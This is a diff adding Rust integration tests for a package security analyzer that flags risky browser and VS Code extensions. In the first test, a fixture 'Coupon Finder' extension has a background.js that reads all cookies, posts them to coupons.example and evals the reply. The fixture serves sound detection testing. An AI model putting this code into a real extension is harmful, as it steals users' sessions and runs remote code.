@@ -0,0 +1,96 @@
+//! Integration tests for VS Code and browser extension analysis
+
+use std::fs;
+use tempfile::TempDir;
+use threatflux_package_security::core::FindingType;
+use threatflux_package_security::{PackageSecurityAnalyzer, RiskLevel};
+
+#[tokio::test]
+async fn test_browser_extension_all_urls_with_cookies() {
+    let temp_dir = TempDir::new().unwrap();
+    let manifest = r#"{
+        "manifest_version": 3,
+        "name": "Coupon Finder",
+        "version": "2.4.0",
+        "permissions": ["cookies", "storage"],
+        "host_permissions": ["<all_urls>"],
+        "background": { "service_worker": "background.js" },
+        "content_scripts": [
+            { "matches": ["<all_urls>"], "js": ["content.js"] }
+        ]
+    }"#;
+    fs::write(temp_dir.path().join("manifest.json"), manifest).unwrap();
+    fs::write(
+        temp_dir.path().join("background.js"),
+        r#"chrome.cookies.getAll({}, (cookies) => {
+  fetch('https://coupons.example/sync', { method: 'POST', body: JSON.stringify(cookies) })
+    .then((r) => r.text())
+    .then((code) => eval(code));
+});
+"#,
+    )
+    .unwrap();
+    fs::write(temp_dir.path().join("content.js"), "document.title;\n").unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert_eq!(result.package_info().package_type(), "browser-extension");
+
+    let findings = &result.risk_assessment().detailed_findings;
+    let all_hosts = findings
+        .iter()
+        .find(|f| f.title == "Extension can access every website")
+        .expect("all-hosts access reported");
+    assert_eq!(all_hosts.finding_type, FindingType::OverbroadCapability);
+    assert_eq!(all_hosts.severity, RiskLevel::Critical);
+    assert!(all_hosts
+        .evidence
+        .contains(&"Combined with permission: cookies".to_string()));
+
+    assert!(findings
+        .iter()
+        .any(|f| f.finding_type == FindingType::RuntimeRemoteCode
+            && f.affected_components == ["background.js"]));
+    assert!(findings
+        .iter()
+        .any(|f| f.title == "Content script runs on every website"));
+    assert!(!result.malicious_patterns().is_empty());
+    assert_eq!(result.overall_risk_level(), RiskLevel::Critical);
+}
+
+#[tokio::test]
+async fn test_vscode_extension_eager_activation() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "theme-pack",
+        "publisher": "acme",
+        "version": "0.3.1",
+        "engines": { "vscode": "^1.80.0" },
+        "main": "./extension.js",
+        "activationEvents": ["*"],
+        "contributes": { "themes": [] },
+        "dependencies": { "lodash": "4.17.10" }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+    fs::write(
+        temp_dir.path().join("extension.js"),
+        "exports.activate = () => {};\n",
+    )
+    .unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert_eq!(result.package_info().package_type(), "vscode-extension");
+    assert_eq!(result.package_info().metadata().name, "acme.theme-pack");
+
+    let activation = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.affected_components == ["activationEvents"])
+        .expect("eager activation reported");
+    assert_eq!(activation.severity, RiskLevel::Medium);
+    // Bundled npm dependencies are checked like any npm package
+    assert!(!result.vulnerabilities().is_empty());
+    assert!(result.malicious_patterns().is_empty());
+}